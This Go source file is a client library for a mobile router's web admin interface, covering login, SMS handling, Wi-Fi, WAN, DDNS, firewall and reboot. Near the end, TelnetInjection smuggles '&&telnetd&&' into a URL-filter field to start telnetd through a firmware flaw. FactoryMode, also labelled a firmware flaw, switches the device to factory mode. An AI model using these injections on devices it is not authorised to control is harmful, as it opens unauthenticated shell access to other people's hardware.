package modem

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"time"
)

// Login 登录命令，密码以 base64 提交
type Login struct {
	Password string
}

func (r Login) Command() (Command, error) {
	return setCommand(cmdLogin, url.Values{
		"password": {base64.StdEncoding.EncodeToString([]byte(r.Password))},
	}), nil
}

// Logout 注销命令
type Logout struct{}

func (Logout) Command() (Command, error) {
	return setCommand(cmdLogout, nil), nil
}

// SendSMS 发送短信
type SendSMS struct {
	Number    string
	Text      string
	MessageID string
	// Time 为提交时间，零值表示当前时间
	Time time.Time
}

func (r SendSMS) Command() (Command, error) {
	number := strings.TrimSpace(r.Number)
	if number == "" {
		return Command{}, &ValidationError{Field: "number", Reason: "is empty"}
	}
	if strings.Trim(number, "+0123456789") != "" {
		return Command{}, &ValidationError{Field: "number", Reason: fmt.Sprintf("%q contains non digits", number)}
	}
	if r.Text == "" {
		return Command{}, &ValidationError{Field: "message", Reason: "is empty"}
	}

	body, err := EncodeText(r.Text)
	if err != nil {
		return Command{}, err
	}

	t := r.Time
	if t.IsZero() {
		t = time.Now()
	}

	return setCommand(cmdSendSMS, url.Values{
		"notCallback": {"true"},
		"Number":      {number},
		"sms_time":    {smsTime(t)},
		"MessageBody": {body},
		"ID":          {"-1"},
		"encode_type": {smsEncodeType},
	}), nil
}

// smsTime 设备格式的提交时间：yy;MM;dd;HH;mm;ss;±时区。
// 整点时区写小时数，其余（如 +05:30）按 3GPP 时间戳的惯例写 15 分钟数。
func smsTime(t time.Time) string {
	_, offset := t.Zone()
	zone := offset / 3600
	if offset%3600 != 0 {
		zone = offset / 900
	}
	return t.Format(smsTimeLayout) + fmt.Sprintf("%+d", zone)
}

// ListSMS 读取短信列表
type ListSMS struct{}

func (ListSMS) Command() (Command, error) {
	return getCommand(cmdListSMS, url.Values{
		"page":          {"0"},
		"data_per_page": {smsPageSize},
		"mem_store":     {smsMemStore},
		"tags":          {smsTagsAll},
		"order_by":      {smsOrderBy},
	}), nil
}

// DeleteSMS 删除单条短信
type DeleteSMS struct {
	ID string
}

func (r DeleteSMS) Command() (Command, error) {
	id := strings.TrimSpace(r.ID)
	if id == "" {
		return Command{}, &ValidationError{Field: "msg_id", Reason: "is empty"}
	}
	return setCommand(cmdDeleteSMS, url.Values{
		"msg_id":      {id},
		"notCallback": {"true"},
	}), nil
}

// SetWifi 开关主 Wi-Fi
type SetWifi struct {
	Enabled bool
}

func (r SetWifi) Command() (Command, error) {
	return setCommand(cmdSetWifi, url.Values{
		"m_ssid_enable": {"0"},
		"wifiEnabled":   {flag(r.Enabled)},
	}), nil
}

// SetWAN 连接或断开移动数据
type SetWAN struct {
	Connect bool
}

func (r SetWAN) Command() (Command, error) {
	name := cmdDisconnectWAN
	if r.Connect {
		name = cmdConnectWAN
	}
	return setCommand(name, url.Values{"notCallback": {"true"}}), nil
}

// DDNS 动态域名配置
type DDNS struct {
	Enabled  bool   `json:"enabled"`
	Provider string `json:"provider"`
	Username string `json:"username"`
	Password string `json:"password"`
	Domain   string `json:"domain"`
	// Mode 为 auto 或 manual，空值表示 auto
	Mode string `json:"mode"`
}

func (r DDNS) Command() (Command, error) {
	mode := r.Mode
	if mode == "" {
		mode = "auto"
	}
	if mode != "auto" && mode != "manual" {
		return Command{}, &ValidationError{Field: "mode", Reason: fmt.Sprintf("%q is not auto or manual", mode)}
	}
	if r.Enabled && (r.Provider == "" || r.Domain == "") {
		return Command{}, &ValidationError{Field: "ddns", Reason: "provider and domain are required when enabled"}
	}

	return setCommand(cmdDDNS, url.Values{
		"DDNS_Enable":   {flag(r.Enabled)},
		"DDNSProvider":  {r.Provider},
		"DDNS_Username": {r.Username},
		"DDNS_Password": {r.Password},
		"DDNS_Domain":   {r.Domain},
		"DDNS_Mode":     {mode},
	}), nil
}

// Firewall 防火墙基本设置
type Firewall struct {
	PortFilter bool `json:"portFilterEnabled"`
	// DefaultPolicy 0 为允许，1 为阻止
	DefaultPolicy int `json:"defaultPolicy"`
}

func (r Firewall) Command() (Command, error) {
	if r.DefaultPolicy != 0 && r.DefaultPolicy != 1 {
		return Command{}, &ValidationError{Field: "defaultPolicy", Reason: fmt.Sprintf("%d is not 0 or 1", r.DefaultPolicy)}
	}
	return setCommand(cmdFirewall, url.Values{
		"portFilterEnabled":     {flag(r.PortFilter)},
		"defaultFirewallPolicy": {fmt.Sprint(r.DefaultPolicy)},
	}), nil
}

// RebootDevice 重启设备
type RebootDevice struct{}

func (RebootDevice) Command() (Command, error) {
	return setCommand(cmdReboot, nil), nil
}

// TelnetInjection 固件漏洞：通过 URL 过滤规则注入启动 telnetd。
// 依赖未公开的固件缺陷，不同固件版本行为未知。
type TelnetInjection struct{}

func (TelnetInjection) Command() (Command, error) {
	return setCommand(cmdURLFilterAdd, url.Values{
		"addURLFilter": {"http://exploit.com/&&telnetd&&"},
	}), nil
}

// FactoryMode 固件漏洞：切换到工厂模式
type FactoryMode struct {
	Password string
}

func (r FactoryMode) Command() (Command, error) {
	return setCommand(cmdChangeMode, url.Values{
		"change_mode": {factoryModeCode},
		"password":    {base64.StdEncoding.EncodeToString([]byte(r.Password))},
	}), nil
}
